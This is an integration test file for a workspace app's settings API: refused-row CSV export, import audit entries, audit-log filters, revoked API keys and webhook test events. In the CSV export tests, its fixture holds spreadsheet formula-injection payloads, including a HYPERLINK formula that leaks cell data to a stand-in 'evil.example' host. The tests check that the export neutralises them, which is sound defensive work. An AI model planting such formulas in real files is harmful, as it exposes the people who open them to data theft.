import { randomUUID } from 'node:crypto';
import { get, type IncomingMessage } from 'node:http';
import { addMember, createApiKey, createUser, findRole } from '#identity/accounts.js';
import { createRole } from '#identity/roles.js';
import { RECORD_OBJECTS, type ObjectPermissions } from '#database/entities/index.js';
import type { FormBrowser } from '../bench/form-browser.js';
import { heldCompany } from './held-record.js';
import { waitUntil } from './processes.js';
import { settingsJson, signInAt } from './settings-client.js';
import { PASSWORD, startPublicOrigin, unique, workspaceWith, type PublicOrigin } from './public-origin.js';
import { Receiver, TEST_WORKER_ENV } from './webhook-receiver.js';

/**
 * What an operator does on the settings pages and their JSON API in a day (docs/settings.md,
 * docs/rest.md "Imports"): refused rows of an import as CSV (formula text neutralised as
 * exports do, streamed at any count), imports in the audit log, a signed test event for one
 * webhook (gated like a redelivery when it sends vault secrets), revoked API keys out of the
 * default list, the audit log to the second and filtered by actor and action. Each is tried
 * from another workspace, without CSRF, and by a member without the permission.
 */
const DAY = 86_400_000;
const SLOW = 120_000;

describe("An operator's settings over HTTP", () => {
  let origin: PublicOrigin;
  let url: string;

  beforeAll(async () => {
    origin = await startPublicOrigin({ ...TEST_WORKER_ENV, IMPORTS_WORKER: 'on', IMPORTS_HEARTBEAT_MS: '500' });
    url = origin.url;
  }, SLOW);
  afterAll(async () => {
    await origin?.close();
  });

  const signIn = (email: string) => signInAt(url, email);
  const csrf = (b: FormBrowser) => ({ 'x-csrf-token': b.cookie('wrs_csrf')! });
  const json = (b: FormBrowser | undefined, method: string, path: string, body?: unknown, headers: Record<string, string> = {}) =>
    settingsJson(url, b, method, path, body, headers);
  const write = (b: FormBrowser, method: string, path: string, body?: unknown) => json(b, method, path, body, csrf(b));

  /** A workspace with an Admin member (signed in) and an Admin API key named "importer". */
  async function adminWorkspace(label: string, roles: string[] = ['Admin']) {
    const { workspace, people } = await workspaceWith(origin.ds, roles, label);
    const key = await createApiKey(origin.ds, {
      workspaceId: workspace.id,
      role: await findRole(origin.ds, workspace.id, 'Admin'),
      name: 'importer',
      expiresAt: new Date(Date.now() + DAY),
    });
    return { workspace, people, key: key.secret, admin: await signIn(people[0].email) };
  }

  const rest = (key: string, method: string, path: string, body?: string, type = 'application/json') =>
    fetch(`${url}${path}`, { method, headers: { authorization: `Bearer ${key}`, 'content-type': type }, body });

  async function upload(key: string, query: string, body: string, type = 'text/csv'): Promise<string> {
    const res = await rest(key, 'POST', `/rest/imports${query}`, body, type);
    const answer = (await res.json()) as { data: { import: { id: string } } };
    expect([res.status, answer]).toEqual([202, expect.anything()]);
    return answer.data.import.id;
  }

  async function ended(key: string, id: string): Promise<Record<string, unknown>> {
    let state: Record<string, unknown> = {};
    await waitUntil(async () => {
      state = ((await (await rest(key, 'GET', `/rest/imports/${id}`)).json()) as { data: { import: Record<string, unknown> } }).data.import;
      return ['completed', 'failed', 'cancelled'].includes(state.status as string);
    }, 60_000);
    return state;
  }

  const auditOf = async (workspaceId: string, like = '%') =>
    (await origin.ds.query(
      `SELECT action, actor_email, target_type, target_id, target_label, details FROM audit_log
        WHERE workspace_id = $1 AND action LIKE $2 ORDER BY created_at, id`,
      [workspaceId, like],
    )) as { action: string; actor_email: string; target_type: string; target_id: string; target_label: string; details: any }[];

  describe('refused rows of an import as CSV', () => {
    // An NDJSON key is echoed at the start of its message ("<key> is not a known field"): the way a file puts its text first in a reason.
    const ndjson = [
      '{"name":"Fine"}',
      '{"name":"A","=HYPERLINK(\\"http://evil.example/?\\"&A1)":1}',
      'not json, "quoted", at all',
      '{"name":"B","@SUM(A1:A9)":1,"+cmd":2}',
      '[1,2]',
      '{"name":"C","-2+3":1}',
    ].join('\n');

    it('answers GET /rest/imports/{id}/errors?format=csv with a row and a reason per refused row, formulas neutralised; NDJSON stays the default', async () => {
      const { key } = await adminWorkspace('csv-errors');
      const id = await upload(key, '?object=companies', ndjson, 'application/x-ndjson');
      expect(await ended(key, id)).toMatchObject({ status: 'completed', created: 1, failed: 5 });

      const res = await rest(key, 'GET', `/rest/imports/${id}/errors?format=csv`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="import-${id}-refused-rows.csv"`);
      expect(res.headers.get('cache-control')).toBe('no-store');
      const csv = await res.text();
      const lines = csv.split('\n');
      expect(lines[0]).toBe('row,line,reason');
      expect(lines.at(-1)).toBe('');
      // A formula in the first message gets the `'` an export gives it; quotes are doubled inside a quoted cell (RFC 4180).
      expect(lines[1]).toBe(`2,2,"'=HYPERLINK(""http://evil.example/?""&A1) is not a known field"`);
      expect(lines[2]).toMatch(/^3,3,"not valid JSON: .*"$/);
      expect(lines[3]).toBe(`4,4,'@SUM(A1:A9) is not a known field; +cmd is not a known field`);
      expect(lines[4]).toBe('5,5,each line must be a JSON object (a record as a REST create takes it)');
      expect(lines[5]).toBe(`6,6,'-2+3 is not a known field`);
      expect(lines).toHaveLength(7);

      // The same rows as NDJSON, the default (and format=ndjson), with the messages as they are.
      for (const path of [`/rest/imports/${id}/errors`, `/rest/imports/${id}/errors?format=ndjson`]) {
        const plain = await rest(key, 'GET', path);
        expect(plain.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
        const rows = (await plain.text())
          .split('\n')
          .filter(Boolean)
          .map((l) => JSON.parse(l));
        expect(rows.map((r) => r.row)).toEqual([2, 3, 4, 5, 6]);
        expect(rows[0].messages).toEqual(['=HYPERLINK("http://evil.example/?"&A1) is not a known field']);
      }

      // An unknown format, or one given twice, is a 400 in the error shape.
      for (const query of ['format=xlsx', 'format=csv&format=ndjson']) {
        const bad = await rest(key, 'GET', `/rest/imports/${id}/errors?${query}`);
        const body = (await bad.json()) as any;
        expect([bad.status, body.code, body.statusCode, body.error]).toEqual([400, 'VALIDATION_FAILED', 400, 'Bad Request']);
        expect(body.messages[0]).toMatch(/^format must be (given once|ndjson or csv)/);
      }
    });

    it("is 404 for another workspace's import, 403 for a key that may not create the object, 401 without a credential", async () => {
      const { workspace, key } = await adminWorkspace('csv-errors-tenant');
      const other = await adminWorkspace('csv-errors-other');
      const id = await upload(key, '?object=companies', '[1]\n', 'application/x-ndjson');
      await ended(key, id);
      const viewer = await createApiKey(origin.ds, {
        workspaceId: workspace.id,
        role: await findRole(origin.ds, workspace.id, 'Viewer'),
        name: 'viewer',
        expiresAt: new Date(Date.now() + DAY),
      });
      const status = async (res: Promise<Response>) => {
        const r = await res;
        return [r.status, ((await r.json()) as any).code];
      };
      expect(await status(rest(other.key, 'GET', `/rest/imports/${id}/errors?format=csv`))).toEqual([404, 'NOT_FOUND']);
      expect(await status(rest(viewer.secret, 'GET', `/rest/imports/${id}/errors?format=csv`))).toEqual([403, 'FORBIDDEN']);
      expect(await status(fetch(`${url}/rest/imports/${id}/errors?format=csv`))).toEqual([401, 'UNAUTHENTICATED']);
    });

    it(
      'streams a long list (30 000 refused rows) in row order, without a length known in advance',
      async () => {
        const { key } = await adminWorkspace('csv-errors-long');
        const n = 30_000;
        const id = await upload(
          key,
          '?object=companies',
          `${Array.from({ length: n }, (_, i) => `[${i}]`).join('\n')}\n`,
          'application/x-ndjson',
        );
        expect(await ended(key, id)).toMatchObject({ status: 'completed', failed: n });
        const res = await rest(key, 'GET', `/rest/imports/${id}/errors?format=csv`);
        expect(res.headers.get('content-length')).toBeNull();
        expect(res.headers.get('transfer-encoding')).toBe('chunked');
        const lines = (await res.text()).split('\n').slice(1, -1);
        expect(lines).toHaveLength(n);
        expect(
          lines.every((line, i) => line === `${i + 1},${i + 1},each line must be a JSON object (a record as a REST create takes it)`),
        ).toBe(true);

        // A client that reads the first bytes and goes away stops it; the next one gets the whole list.
        const partial = await rest(key, 'GET', `/rest/imports/${id}/errors?format=csv`);
        const reader = partial.body!.getReader();
        expect((await reader.read()).done).toBe(false);
        await reader.cancel();
        const again = await rest(key, 'GET', `/rest/imports/${id}/errors?format=csv`);
        expect((await again.text()).split('\n')).toHaveLength(n + 2);
      },
      SLOW,
    );

    it(
      'cuts a client that takes nothing for EXPORT_STALL_TIMEOUT_MS, as an export does: an incomplete transfer, never a short list',
      async () => {
        const { key } = await adminWorkspace('csv-errors-stall');
        // 25 000 reasons of 1 KB each: more than loopback's socket buffers hold, so the server waits on the client.
        const long = 'k'.repeat(1000);
        const rows = Array.from({ length: 25_000 }, (_, i) => `{"name":"R${i}","${long}":1}`);
        const id = await upload(key, '?object=companies', `${rows.join('\n')}\n`, 'application/x-ndjson');
        expect(await ended(key, id)).toMatchObject({ status: 'completed', failed: 25_000 });
        process.env.EXPORT_STALL_TIMEOUT_MS = '1000';
        try {
          const stalled = await new Promise<IncomingMessage>((resolve, reject) =>
            get(`${url}/rest/imports/${id}/errors?format=csv`, { headers: { authorization: `Bearer ${key}` } }, resolve).on(
              'error',
              reject,
            ),
          );
          expect(stalled.statusCode).toBe(200);
          stalled.pause();
          const complete = await new Promise<boolean>((resolve) => {
            stalled.on('error', () => resolve(stalled.complete));
            stalled.on('close', () => resolve(stalled.complete));
            // Reading only once the server has given up: what had arrived is not the whole list.
            setTimeout(() => stalled.resume(), 5000);
          });
          expect(complete).toBe(false);
        } finally {
          delete process.env.EXPORT_STALL_TIMEOUT_MS;
        }
      },
      SLOW,
    );

    it('the settings pages link to the same CSV, for the signed-in member only, in their workspace', async () => {
      const { key, people, admin } = await adminWorkspace('csv-errors-page', ['Admin', 'Viewer']);
      const other = await adminWorkspace('csv-errors-page-other');
      const id = await upload(key, '?object=companies', ndjson, 'application/x-ndjson');
      await ended(key, id);
      const direct = await (await rest(key, 'GET', `/rest/imports/${id}/errors?format=csv`)).text();

      await admin.go(`${url}/settings/imports/${id}`);
      expect(admin.lastBody).toContain(`href="/settings/imports/${id}/errors?format=csv"`);
      expect(admin.lastBody).toContain('Download the 5 refused rows (CSV)');
      const page = await fetch(`${url}/settings/imports/${id}/errors?format=csv`, { headers: { cookie: admin.cookieHeader() } });
      expect(page.status).toBe(200);
      expect(page.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(page.headers.get('content-disposition')).toBe(`attachment; filename="import-${id}-refused-rows.csv"`);
      expect(await page.text()).toBe(direct);

      // Another workspace's member: 404; a Viewer (cannot create records): 403; signed out: sent to sign in.
      const theirs = await fetch(`${url}/settings/imports/${id}/errors?format=csv`, { headers: { cookie: other.admin.cookieHeader() } });
      expect(theirs.status).toBe(404);
      const viewer = await signIn(people[1].email);
      const refused = await fetch(`${url}/settings/imports/${id}/errors?format=csv`, { headers: { cookie: viewer.cookieHeader() } });
      expect(refused.status).toBe(403);
      const anonymous = await fetch(`${url}/settings/imports/${id}/errors?format=csv`, { redirect: 'manual' });
      expect(anonymous.status).toBe(303);
      expect(anonymous.headers.get('location')).toMatch(/^\/login\?return=/);
    });
  });

  describe('imports in the audit log', () => {
    it(
      'records who started which import (object, mode, format, size) and how it ended (its counts), by key or by member',
      async () => {
        const { workspace, people, key, admin } = await adminWorkspace('import-audit');
        const csv = 'name,domainName.primaryLinkUrl\nAcme,acme.com\nBad,not a domain\n';
        const person = '{"name":{"firstName":"Ada"}}\n';
        const byKey = await upload(key, '?object=companies&mode=upsert', csv);
        await ended(key, byKey);
        // The settings page's upload: the file as the body, the CSRF token in a header.
        const viaPage = await fetch(`${url}/settings/imports?object=people`, {
          method: 'POST',
          headers: { cookie: admin.cookieHeader(), 'content-type': 'application/x-ndjson', ...csrf(admin) },
          body: person,
        });
        expect(viaPage.status).toBe(202);
        const byMember = ((await viaPage.json()) as any).data.import.id as string;
        await ended(key, byMember);

        const log = await auditOf(workspace.id, 'import.%');
        expect(log).toEqual([
          {
            action: 'import.start',
            actor_email: 'API key "importer"',
            target_type: 'import',
            target_id: byKey,
            target_label: 'companies',
            details: { object: 'companies', mode: 'upsert', format: 'csv', bytes: Buffer.byteLength(csv) },
          },
          {
            action: 'import.end',
            actor_email: 'API key "importer"',
            target_type: 'import',
            target_id: byKey,
            target_label: 'companies',
            details: { status: 'completed', rowsRead: 2, created: 1, updated: 0, unchanged: 0, failed: 1 },
          },
          expect.objectContaining({
            action: 'import.start',
            actor_email: people[0].email,
            target_id: byMember,
            details: { object: 'people', mode: 'create', format: 'ndjson', bytes: Buffer.byteLength(person) },
          }),
          expect.objectContaining({
            action: 'import.end',
            actor_email: people[0].email,
            target_id: byMember,
            details: { status: 'completed', rowsRead: 1, created: 1, updated: 0, unchanged: 0, failed: 0 },
          }),
        ]);
        // The audit page says it in words.
        await admin.go(`${url}/settings/audit`);
        for (const words of [
          'Started import',
          'Import ended',
          `size: ${Buffer.byteLength(csv)} bytes`,
          'status: completed',
          'rows read: 2',
        ])
          expect([words, admin.lastBody.includes(words)]).toEqual([words, true]);
      },
      SLOW,
    );

    it(
      'records who cancelled an import, with what it had done; a queued import that never ran has no end entry',
      async () => {
        const { workspace, key, people, admin } = await adminWorkspace('import-audit-cancel');
        const held = await heldCompany(origin.ds, url, key, 'Held');
        try {
          // The first import waits on the held record in its second batch; the second waits behind it.
          const rows = [...Array.from({ length: 1000 }, (_, i) => `,Early ${i}`), `${held.id},Held renamed`];
          const running = await upload(key, '?object=companies&mode=upsert', `id,name\n${rows.join('\n')}\n`);
          const queued = await upload(key, '?object=companies', 'name\nNever\n');
          await waitUntil(
            async () => (await origin.ds.query('SELECT rows_done FROM imports WHERE id = $1', [running]))[0].rows_done === '1000',
            30_000,
          );
          await admin.go(`${url}/settings/imports/${queued}`);
          await admin.submit('Cancel the import');
          expect(admin.lastUrl).toBe(`${url}/settings/imports/${queued}`);
          const cancel = await rest(key, 'DELETE', `/rest/imports/${running}`);
          expect(cancel.status).toBe(200);
          const log = await auditOf(workspace.id, 'import.cancel');
          expect(log).toEqual([
            expect.objectContaining({
              actor_email: people[0].email,
              target_id: queued,
              details: { status: 'queued', rowsRead: 0, created: 0, updated: 0, unchanged: 0, failed: 0 },
            }),
            expect.objectContaining({
              actor_email: 'API key "importer"',
              target_id: running,
              details: { status: 'running', rowsRead: 1000, created: 1000, updated: 0, unchanged: 0, failed: 0 },
            }),
          ]);
        } finally {
          await held.release();
        }
        await waitUntil(
          async () =>
            (
              await origin.ds.query(`SELECT count(*)::int AS n FROM imports WHERE workspace_id = $1 AND status IN ('queued', 'running')`, [
                workspace.id,
              ])
            )[0].n === 0,
          30_000,
        );
        expect((await auditOf(workspace.id, 'import.%')).map((e) => e.action)).toEqual([
          'import.start',
          'import.start',
          'import.cancel',
          'import.cancel',
        ]);
      },
      SLOW,
    );
  });

  describe('the audit log, to the second, filtered by actor and action', () => {
    it('GET /settings/api/audit filters by actor and action (or a group, webhook.*), pages by cursor, and stays in the workspace', async () => {
      const { people, admin } = await adminWorkspace('audit-filter', ['Admin', 'Admin']);
      const second = await signIn(people[1].email);
      const made = await write(admin, 'POST', '/settings/api/api-keys', { name: 'one', role: 'Viewer' });
      await write(admin, 'POST', '/settings/api/api-keys', { name: 'two', role: 'Viewer' });
      await write(admin, 'POST', `/settings/api/api-keys/${made.body.data.createApiKey.id}/revoke`);
      await write(second, 'POST', '/settings/api/api-keys', { name: 'three', role: 'Viewer' });
      await write(second, 'POST', '/settings/api/webhooks', { url: 'http://127.0.0.1:9/hook' });
      const other = await adminWorkspace('audit-filter-other');
      await write(other.admin, 'POST', '/settings/api/api-keys', { name: 'theirs', role: 'Viewer' });

      const list = async (query: string) => {
        const res = await json(admin, 'GET', `/settings/api/audit${query}`);
        expect([query, res.status]).toEqual([query, 200]);
        return res.body as { data: { auditLog: any[] }; pageInfo: { hasNextPage: boolean; endCursor: string | null } };
      };
      const all = await list('');
      expect(all.data.auditLog.map((e) => [e.action, e.targetLabel])).toEqual([
        ['webhook.create', 'http://127.0.0.1:9/hook'],
        ['api_key.create', 'three'],
        ['api_key.revoke', 'one'],
        ['api_key.create', 'two'],
        ['api_key.create', 'one'],
      ]);
      expect(all.data.auditLog[0]).toEqual({
        id: expect.any(String),
        actorEmail: people[1].email,
        action: 'webhook.create',
        targetType: 'webhook',
        targetId: expect.any(String),
        targetLabel: 'http://127.0.0.1:9/hook',
        details: expect.any(Object),
        createdAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      });
      expect(all.pageInfo).toEqual({ hasNextPage: false, endCursor: null });

      expect((await list(`?actor=${encodeURIComponent(people[1].email.toUpperCase())}`)).data.auditLog.map((e) => e.action)).toEqual([
        'webhook.create',
        'api_key.create',
      ]);
      expect((await list('?action=api_key.revoke')).data.auditLog.map((e) => e.targetLabel)).toEqual(['one']);
      expect((await list('?action=api_key.*')).data.auditLog).toHaveLength(4);
      const mine = await list(`?actor=${encodeURIComponent(people[0].email)}&action=api_key.create`);
      expect(mine.data.auditLog.map((e) => e.targetLabel)).toEqual(['two', 'one']);
      // Another workspace's entries are never there, whoever they name.
      expect((await list(`?actor=${encodeURIComponent(other.people[0].email)}`)).data.auditLog).toEqual([]);

      // Pages: limit, then the end cursor as starting_after, with the filter kept.
      const first = await list('?action=api_key.*&limit=3');
      expect(first.data.auditLog.map((e) => e.targetLabel)).toEqual(['three', 'one', 'two']);
      expect(first.pageInfo.hasNextPage).toBe(true);
      const next = await list(`?action=api_key.*&limit=3&starting_after=${encodeURIComponent(first.pageInfo.endCursor!)}`);
      expect(next.data.auditLog.map((e) => e.targetLabel)).toEqual(['one']);
      expect(next.pageInfo).toEqual({ hasNextPage: false, endCursor: null });

      // Bad filters are 400 naming the parameter; nothing is guessed.
      for (const [query, message] of [
        ['?action=drop.table', /^action must be one of the audit actions/],
        ['?action=api_key.create&action=api_key.revoke', /^action must be given once/],
        ['?actor=', /^actor must be 1 to 320 characters/],
        [`?actor=${'x'.repeat(321)}`, /^actor must be 1 to 320 characters/],
        ['?limit=0', /^limit must be an integer from 1 to 200/],
        ['?limit=1.5', /^limit must be an integer from 1 to 200/],
        ['?starting_after=nope', /^starting_after is not a cursor/],
        ['?before=x', /^unknown query parameter "before"/],
      ] as const) {
        const res = await json(admin, 'GET', `/settings/api/audit${query}`);
        expect([query, res.status, res.body.statusCode, res.body.messages?.[0]]).toEqual([query, 400, 400, expect.stringMatching(message)]);
      }
    });

    it('keeps the audit API to members with a settings permission, signed in; a bearer token is 401', async () => {
      const { people, key } = await adminWorkspace('audit-access', ['Admin', 'Viewer']);
      const viewer = await signIn(people[1].email);
      expect((await json(viewer, 'GET', '/settings/api/audit')).status).toBe(403);
      expect((await json(undefined, 'GET', '/settings/api/audit')).status).toBe(401);
      expect((await json(undefined, 'GET', '/settings/api/audit', undefined, { authorization: `Bearer ${key}` })).status).toBe(401);
    });

    it('the page shows times to the second and filters by actor and action, keeping the filter on older pages', async () => {
      const { people, admin } = await adminWorkspace('audit-page', ['Admin', 'Admin']);
      const second = await signIn(people[1].email);
      await write(admin, 'POST', '/settings/api/api-keys', { name: 'mine', role: 'Viewer' });
      await write(second, 'POST', '/settings/api/api-keys', { name: 'theirs', role: 'Viewer' });
      await write(second, 'POST', '/settings/api/webhooks', { url: 'http://127.0.0.1:9/hook' });

      await admin.go(`${url}/settings/audit`);
      expect(admin.lastBody).toMatch(/<time datetime="[^"]+" title="[^"]+">\d{4}-\d\d-\d\d \d\d:\d\d:\d\d<\/time>/);
      await admin.go(`${url}/settings/audit?actor=${encodeURIComponent(people[1].email)}&action=api_key.create`);
      expect(admin.lastStatus).toBe(200);
      expect(admin.lastBody).toContain('theirs');
      expect(admin.lastBody).not.toContain('>mine<');
      expect(admin.lastBody).not.toContain('title="webhook.create"');
      expect(admin.lastBody).toContain(`value="${people[1].email}"`);
      expect(admin.lastBody).toMatch(/<option value="api_key.create"\s+selected>/);
      await admin.go(`${url}/settings/audit?action=nonsense`);
      expect(admin.lastStatus).toBe(400);
      expect(admin.lastBody).toContain('action must be one of the audit actions');
    });
  });

  describe('revoked API keys', () => {
    it('are left out of the default list, page and API, and shown on request', async () => {
      const { admin } = await adminWorkspace('revoked-keys');
      const one = await write(admin, 'POST', '/settings/api/api-keys', { name: 'kept', role: 'Viewer' });
      const two = await write(admin, 'POST', '/settings/api/api-keys', { name: 'gone', role: 'Viewer' });
      expect(one.status).toBe(201);
      await write(admin, 'POST', `/settings/api/api-keys/${two.body.data.createApiKey.id}/revoke`);

      const names = (res: { body: any }) => res.body.data.apiKeys.map((k: { name: string }) => k.name).sort();
      const plain = await json(admin, 'GET', '/settings/api/api-keys');
      expect([names(plain), plain.body.totalCount]).toEqual([['importer', 'kept'], 2]);
      const everything = await json(admin, 'GET', '/settings/api/api-keys?include=revoked');
      expect([names(everything), everything.body.totalCount]).toEqual([['gone', 'importer', 'kept'], 3]);
      const bad = await json(admin, 'GET', '/settings/api/api-keys?include=all');
      expect([bad.status, bad.body.messages]).toEqual([400, ['include must be "revoked" or left out; got "all"']]);

      await admin.go(`${url}/settings/api-keys`);
      expect(admin.lastBody).toContain('kept');
      expect(admin.lastBody).not.toContain('gone');
      expect(admin.lastBody).toContain('href="/settings/api-keys?include=revoked"');
      expect(admin.lastBody).toContain('Show 1 revoked key');
      await admin.go(`${url}/settings/api-keys?include=revoked`);
      expect(admin.lastBody).toContain('gone');
      expect(admin.lastBody).toContain('Hide revoked keys');
    });
  });

  describe('a test event for a webhook', () => {
    /** A member signed in, whose new role may manage webhooks (no VAULT) and reads every record object, or none. */
    async function webhookKeeper(workspaceId: string, name: string, reads: boolean): Promise<FormBrowser> {
      const role = await createRole(origin.ds, workspaceId, {
        name,
        description: '',
        objectPermissions: everything(reads),
        fieldPermissions: {},
        settingsPermissions: ['API_KEYS_AND_WEBHOOKS'],
        assignableToUsers: true,
        assignableToApiKeys: false,
      });
      const email = `${unique('keeper')}@example.com`;
      const user = await createUser(origin.ds, email, PASSWORD);
      await addMember(origin.ds, workspaceId, user.id, role);
      return signIn(email);
    }

    const everything = (read = true): ObjectPermissions =>
      Object.fromEntries(
        RECORD_OBJECTS.map((o) => [o, { read, create: false, update: false, delete: false }]),
      ) as unknown as ObjectPermissions;

    it(
      'sends one signed webhook.test event to that webhook only, whatever its operations, and logs the attempt',
      async () => {
        const { workspace, people, admin } = await adminWorkspace('webhook-test');
        const receiver = await new Receiver().start();
        const bystander = await new Receiver().start();
        try {
          const made = await write(admin, 'POST', '/settings/api/webhooks', { url: receiver.url, operations: ['person.deleted'] });
          await write(admin, 'POST', '/settings/api/webhooks', { url: bystander.url, operations: ['*.*'] });
          const hook = made.body.data.createWebhook;
          const sent = await write(admin, 'POST', `/settings/api/webhooks/${hook.id}/test`);
          expect([sent.status, sent.body]).toEqual([
            202,
            { data: { testWebhook: { deliveryId: expect.any(String), eventId: expect.any(String) } } },
          ]);
          await receiver.waitFor(1);
          const [event] = receiver.verified(hook.secret);
          expect(event).toEqual({
            id: sent.body.data.testWebhook.eventId,
            type: 'webhook.test',
            workspaceId: workspace.id,
            occurredAt: expect.stringMatching(/Z$/),
            data: { webhook: { id: hook.id, url: receiver.url } },
          });
          expect(receiver.receipts[0].headers['webhook-id']).toBe(event.id);
          await waitUntil(
            async () => (await json(admin, 'GET', `/settings/api/webhooks/${hook.id}/attempts`)).body.data.attempts.length === 1,
            10_000,
          );
          const [attempt] = (await json(admin, 'GET', `/settings/api/webhooks/${hook.id}/attempts`)).body.data.attempts;
          expect(attempt).toMatchObject({ eventType: 'webhook.test', statusCode: 200, deliveryStatus: 'delivered', eventId: event.id });
          const log = await auditOf(workspace.id, 'webhook.test');
          expect(log).toEqual([
            expect.objectContaining({
              actor_email: people[0].email,
              target_id: hook.id,
              target_label: receiver.url,
              details: { eventId: event.id },
            }),
          ]);

          // The page's button: the same, then the page says what happened.
          await admin.go(`${url}/settings/webhooks/${hook.id}`);
          await admin.submit('Send test event');
          expect(admin.lastUrl).toBe(`${url}/settings/webhooks/${hook.id}?notice=tested`);
          expect(admin.lastBody).toContain('Test event queued');
          await receiver.waitFor(2);
          // Nothing reached the other webhook, which selects every event.
          await new Promise((r) => setTimeout(r, 500));
          expect(bystander.receipts).toEqual([]);
        } finally {
          await receiver.close();
          await bystander.close();
        }
      },
      SLOW,
    );

    it("is 404 for another workspace's webhook, 403 without CSRF or the permission, 409 for a disabled webhook; nothing is sent", async () => {
      const { workspace, people, admin } = await adminWorkspace('webhook-test-attack', ['Admin', 'Viewer']);
      const other = await adminWorkspace('webhook-test-attack-other');
      const receiver = await new Receiver().start();
      try {
        const mine = (await write(admin, 'POST', '/settings/api/webhooks', { url: receiver.url })).body.data.createWebhook;
        const theirs = (await write(other.admin, 'POST', '/settings/api/webhooks', { url: receiver.url })).body.data.createWebhook;
        const foreign = await write(admin, 'POST', `/settings/api/webhooks/${theirs.id}/test`);
        expect([foreign.status, foreign.body.code]).toEqual([404, 'NOT_FOUND']);
        await admin.go(`${url}/settings/webhooks/${theirs.id}/test`, { method: 'POST', form: { _csrf: admin.cookie('wrs_csrf')! } });
        expect(admin.lastStatus).toBe(404);
        const forged = await json(admin, 'POST', `/settings/api/webhooks/${mine.id}/test`);
        expect(forged.status).toBe(403);
        const formForged = await fetch(`${url}/settings/webhooks/${mine.id}/test`, {
          method: 'POST',
          headers: { cookie: admin.cookieHeader(), 'content-type': 'application/x-www-form-urlencoded' },
          body: '',
        });
        expect(formForged.status).toBe(403);
        const viewer = await signIn(people[1].email);
        expect((await write(viewer, 'POST', `/settings/api/webhooks/${mine.id}/test`)).status).toBe(403);
        const badId = await write(admin, 'POST', '/settings/api/webhooks/not-an-id/test');
        expect([badId.status, badId.body.code]).toEqual([400, 'INVALID_ID']);

        await write(admin, 'PATCH', `/settings/api/webhooks/${mine.id}`, { enabled: false });
        const disabled = await write(admin, 'POST', `/settings/api/webhooks/${mine.id}/test`);
        expect([disabled.status, disabled.body.code, disabled.body.messages]).toEqual([
          409,
          'CONFLICT',
          ['The webhook is disabled: enable it, then send the test event'],
        ]);
        await admin.go(`${url}/settings/webhooks/${mine.id}`);
        expect(admin.lastBody).not.toContain('Send test event</button>');

        await new Promise((r) => setTimeout(r, 300));
        expect(receiver.receipts).toEqual([]);
        expect(
          await origin.ds.query(`SELECT count(*)::int AS n FROM webhook_events WHERE workspace_id = ANY($1) AND type = 'webhook.test'`, [
            [workspace.id, other.workspace.id],
          ]),
        ).toEqual([{ n: 0 }]);
      } finally {
        await receiver.close();
      }
    });

    it(
      'to a webhook that sends vault secrets, needs VAULT and the password of the last 5 minutes, like a redelivery',
      async () => {
        const { workspace, people, key, admin } = await adminWorkspace('webhook-test-vault');
        const m = await webhookKeeper(workspace.id, 'Integrator', true);
        const receiver = await new Receiver().start();
        try {
          const value = `s-${randomUUID()}`;
          expect((await rest(key, 'POST', '/rest/vault/secrets', JSON.stringify({ name: 'CRM_TOKEN', value }))).status).toBe(201);
          const made = await write(admin, 'POST', '/settings/api/webhooks', {
            url: receiver.url,
            headers: [{ name: 'Authorization', value: 'Bearer {{vault.CRM_TOKEN}}' }],
            password: PASSWORD,
          });
          expect(made.status).toBe(201);
          const hook = made.body.data.createWebhook;

          // Without VAULT: refused whatever the password.
          const member = await write(m, 'POST', `/settings/api/webhooks/${hook.id}/test`, { password: PASSWORD });
          expect([member.status, member.body.messages]).toEqual([403, [expect.stringMatching(/need the Vault secrets permission/)]]);
          await m.go(`${url}/settings/webhooks/${hook.id}`);
          await m.submit('Send test event');
          expect(m.lastStatus).toBe(403);

          // The admin, 6 minutes after typing it: asked again; a wrong one is refused; the right one sends.
          await origin.ds.query(`UPDATE web_sessions SET password_confirmed_at = now() - interval '6 minutes' WHERE user_id = $1`, [
            people[0].id,
          ]);
          const stale = await write(admin, 'POST', `/settings/api/webhooks/${hook.id}/test`);
          expect([stale.status, stale.body.messages]).toEqual([403, [expect.stringMatching(/^Type your password/)]]);
          expect((await write(admin, 'POST', `/settings/api/webhooks/${hook.id}/test`, { password: 'not it' })).status).toBe(403);
          await admin.go(`${url}/settings/webhooks/${hook.id}`);
          expect(admin.lastBody).toContain('Your password, to redeliver or send a test event');
          expect(receiver.receipts).toEqual([]);
          const sent = await write(admin, 'POST', `/settings/api/webhooks/${hook.id}/test`, { password: PASSWORD });
          expect(sent.status).toBe(202);
          await receiver.waitFor(1);
          expect(receiver.receipts[0].headers.authorization).toBe(`Bearer ${value}`);
          await waitUntil(
            async () => (await json(admin, 'GET', `/settings/api/webhooks/${hook.id}/attempts`)).body.data.attempts.length === 1,
            10_000,
          );
          const [attempt] = (await json(admin, 'GET', `/settings/api/webhooks/${hook.id}/attempts`)).body.data.attempts;
          expect(attempt).toMatchObject({ eventType: 'webhook.test', responseWithheld: true });
          const log = await auditOf(workspace.id, 'webhook.test');
          expect(log).toEqual([
            expect.objectContaining({
              actor_email: people[0].email,
              details: { eventId: expect.any(String), vaultSecrets: ['CRM_TOKEN'] },
            }),
          ]);
          expect(JSON.stringify(log)).not.toContain(value);
        } finally {
          await receiver.close();
        }
      },
      SLOW,
    );

    it('reaches a webhook whose role reads no record: a test event carries none', async () => {
      const { workspace } = await adminWorkspace('webhook-test-role');
      const keeper = await webhookKeeper(workspace.id, 'Hook keeper', false);
      const receiver = await new Receiver().start();
      try {
        const hook = (await write(keeper, 'POST', '/settings/api/webhooks', { url: receiver.url })).body.data.createWebhook;
        expect((await write(keeper, 'POST', `/settings/api/webhooks/${hook.id}/test`)).status).toBe(202);
        await receiver.waitFor(1);
        expect(receiver.verified(hook.secret)[0].type).toBe('webhook.test');
      } finally {
        await receiver.close();
      }
    });
  });

  describe('select options on /settings/data-model', () => {
    it('answers option values the rule refuses with one message naming the lines, and puts the focus back on Options', async () => {
      const { admin } = await adminWorkspace('options-message');
      await admin.go(`${url}/settings/data-model`);
      await admin.go(`${url}/settings/data-model`, {
        method: 'POST',
        form: {
          _csrf: admin.cookie('wrs_csrf')!,
          object: 'companies',
          name: 'tier',
          type: 'SELECT',
